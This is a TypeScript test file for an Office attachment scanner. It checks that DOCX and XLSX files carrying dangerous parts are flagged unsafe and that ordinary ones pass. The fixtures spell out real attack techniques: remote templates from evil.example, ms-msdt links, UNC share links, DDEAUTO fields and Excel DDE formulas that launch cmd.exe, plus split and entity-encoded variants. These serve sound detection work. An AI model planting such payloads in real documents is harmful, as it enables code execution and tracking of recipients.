import { expect, test } from 'vitest';
import { openAttachment } from './open-attachment.ts';
import { aDocx, anXlsx, withParts } from './test-documents.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const judged = async (name: string, bytes: Buffer) => {
  const found = await openAttachment(name, bytes);
  return 'fault' in found ? found.fault : found.content;
};
const part = (name: string, text: string) => ({ name, bytes: Buffer.from(text) });
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  part(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="${office}/${type}" Target="${target}"${mode}/></Relationships>`,
  );
const fields = (xml: string) => part('word/header1.xml', `<w:hdr>${xml}</w:hdr>`);
const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const begin = '<w:fldChar w:fldCharType="begin"/>';

test.each([
  ['a template from elsewhere', relation('attachedTemplate', 'https://evil.example/t.dotm')],
  ['one whose word is written in numbers', relation('image', 'https://evil.example', ' TargetMode="&#69;xternal"')],
  ['an object from elsewhere', relation('oleObject', 'https://evil.example/o')],
  ['an object within', relation('oleObject', 'media/picture.xml', '')],
  ['a picture from elsewhere', relation('image', 'https://evil.example/seen.png')],
  ['a frame from elsewhere', relation('frame', 'https://evil.example')],
  ['a link to a program’s own scheme', relation('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['a link to a share', relation('hyperlink', '\\\\evil\\share')],
  ['a field that starts a program', fields(`${begin}${instruction(' DDEAUTO c:\\\\cmd.exe "/k calc"')}`)],
  ['one in pieces', fields(`${begin}${instruction('D')}<w:r/>${instruction('DE')}${instruction(' c:\\x')}`)],
  ['one in an attribute', fields(`<w:fldSimple w:instr=' dde excel "x"'/>`)],
  ['an entity of its own', part('word/header1.xml', '<!DOCTYPE x [<!ENTITY a "b">]><w:hdr/>')],
  ['letters of two bytes', { name: 'word/header1.xml', bytes: Buffer.from('<w:hdr/>', 'utf16le') }],
  ['something else embedded', part('word/embeddings/Microsoft_Word_97.doc', 'x')],
  ['a document within a document within it', { name: 'word/embeddings/a.docx', bytes: nested() }],
])('a DOCX with %s is refused', async (_name, added) => {
  expect(await judged('x.docx', aDocx([added]))).toBe('UNSAFE');
});

test.each([
  ['a workbook that calls a program', part('xl/externalLinks/externalLink1.xml', '<x><ddeLink ddeService="cmd"/></x>')],
  ['a formula that calls one', part('xl/worksheets/sheet9.xml', `<s><f>cmd|'/c calc'!A0</f></s>`)],
  [
    'a link to another workbook',
    part(
      'xl/_rels/workbook9.xml.rels',
      `<Relationships><Relationship Type="${office}/externalLink" Target="a.xml"/></Relationships>`,
    ),
  ],
])('an XLSX with %s is refused', async (_name, added) => {
  expect(await judged('x.xlsx', withParts(anXlsx(), [added]))).toBe('UNSAFE');
});

test.each([
  ['a link', relation('hyperlink', 'https://example.com/a?b=1&amp;c=2')],
  ['a link to a mailbox', relation('hyperlink', 'mailto:jan@example.com')],
  ['a link to a place in it', relation('hyperlink', '#chapter')],
  ['a part of its own', relation('image', 'media/image1.png', '')],
  ['a field with a number', fields(`${begin}${instruction(' PAGE ')}${begin}${instruction('HYPERLINK "added"')}`)],
  ['a chart with its figures', { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes: anXlsx() }],
])('a DOCX with %s is fine', async (_name, added) => {
  expect(await judged('x.docx', aDocx([added]))).toBe('docx');
});

test('a workbook with texts that look like a call is fine', async () => {
  const sheet = part('xl/worksheets/sheet9.xml', `<s><f>A1&amp;"a|'b'!c"&amp;B1</f><v>cmd|'/c'!A0</v></s>`);

  expect(await judged('x.xlsx', withParts(anXlsx(), [sheet]))).toBe('xlsx');
});

function nested(): Buffer {
  return aDocx([{ name: 'word/embeddings/b.docx', bytes: aDocx() }]);
}
